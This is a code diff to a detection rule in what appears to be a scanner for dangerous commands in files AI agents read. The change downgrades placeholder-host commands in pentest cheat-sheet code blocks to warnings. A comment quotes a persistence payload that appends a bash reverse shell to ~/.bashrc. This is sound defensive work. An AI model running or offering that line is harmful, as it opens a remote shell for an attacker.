@@ -2,7 +2,7 @@
 import { contentRule, type Detection } from '../rule-kit.js'
 import { crossesItems, type Analysis } from '../text/context.js'
 import { framingOf, inAttackCatalogue, lowerExamples } from '../text/framing.js'
-import { findAll, lineRanges, namedInProse } from '../text/commands.js'
+import { findAll, lineRanges, namedInProse, PLACEHOLDER_HOST } from '../text/commands.js'
 import { mayMatch } from '../text/triggers.js'
 import { lazyRegExp } from '../text/lazy-regexp.js'
 
@@ -276,7 +276,12 @@ function detect(analysis: Analysis): Detection[] {
         if (catalogue && exampleCode(start)) break
         // (A forced warning skips the severity policy: a negated or reported write still reports nothing.)
         if (catalogue && ['negated', 'reported'].includes(framingOf(text, start, end))) break
-        push(start, end, message, catalogue ? 'warn' : undefined)
+        // fp6: a technique of a pentest cheat sheet in a code block the file does not tell the agent to run, its far end
+        // a placeholder (`echo 'bash -i >& /dev/tcp/<ip>/<port> 0>&1' >> ~/.bashrc`): a template, shown as a warning.
+        const o = analysis.folded.originalStart(start)
+        const template =
+          analysis.markdown.code[o] === 2 && !analysis.markdown.endorsed[o] && PLACEHOLDER_HOST.test(line)
+        push(start, end, message, catalogue || template ? 'warn' : undefined)
         break
       }
     // Project settings are files of the repository, reviewed like any other; only a fetched script in them is news.
